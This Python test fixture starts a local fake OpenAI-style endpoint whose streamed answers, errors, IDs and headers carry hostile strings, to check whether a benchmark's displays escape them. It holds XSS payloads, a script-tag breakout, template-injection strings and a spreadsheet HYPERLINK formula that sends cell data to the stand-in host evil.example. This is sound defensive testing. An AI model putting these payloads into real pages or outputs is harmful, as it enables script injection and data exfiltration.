"""An endpoint whose answers try to break the pages that show them, and what else of a benchmark can be hostile."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import count
from typing import Any

MARK = "pwned"
IMAGE = f"<img src=x onerror=\"document.documentElement.dataset.{MARK}='1'\">"
SCRIPT = f"</script></style></textarea></title><script>document.documentElement.dataset.{MARK}='1'</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
RIGHT_TO_LEFT = "\u202eمرحبا بالعالم\u202c \u2067שלום\u2069"
INVISIBLE = "zero\u200bwidth\u200d\ufeff \u0007bell \u001b[31mred\u001b[0m \u0000null \u2028line"
UNBROKEN = "W" * 10_000
LONG = "All work and no play makes a long answer. " * 25_000
TEMPLATE = "{{ 7*7 }}{% raw %}${7*7}"
TEXTS = (IMAGE, SCRIPT, FORMULA, RIGHT_TO_LEFT, INVISIBLE, UNBROKEN, LONG, TEMPLATE)

NAME = (IMAGE + RIGHT_TO_LEFT + SCRIPT)[:200]
# As much as the API takes, most of it as very many tags. Without U+0000, which it refuses.
METADATA_BYTES = 16_384
METADATA = {IMAGE: FORMULA, SCRIPT: RIGHT_TO_LEFT, "unbroken": UNBROKEN[:2_000]}
METADATA |= {f"t{number}": "1" for number in range((METADATA_BYTES - 3_000) // 13)}


def event(**delta: Any) -> bytes:
    choice = {"index": 0, "delta": delta, "finish_reason": None}
    return b"data: " + json.dumps({"id": IMAGE, "model": IMAGE, "choices": [choice]}).encode() + b"\n\n"


class _Handler(BaseHTTPRequestHandler):
    numbers = count()

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["content-length"]))
        number = next(self.numbers)
        text = TEXTS[number % len(TEXTS)]
        # Every third request fails with the same text.
        if number % 3 == 2:
            error = {"error": {"message": text[:20_000], "type": IMAGE, "code": FORMULA}}
            self._answer(500, "application/json", json.dumps(error).encode())
            return
        last = {"index": 0, "delta": {}, "finish_reason": "stop"}
        usage = {"prompt_tokens": 10, "completion_tokens": len(text) // 4 + 1}
        end = json.dumps({"id": IMAGE, "choices": [last], "usage": usage}).encode()
        stream = event(role="assistant") + event(content=text) + b"data: " + end + b"\n\ndata: [DONE]\n\n"
        self._answer(200, "text/event-stream", stream)

    def _answer(self, status: int, content_type: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("content-type", content_type)
        self.send_header("content-length", str(len(body)))
        self.send_header("x-request-id", "<b>id</b>")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *arguments: Any) -> None:
        """Nothing is printed."""


@contextmanager
def hostile_endpoint() -> Iterator[str]:
    """Its base URL, for a provider of the protocol `openai`."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/v1"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
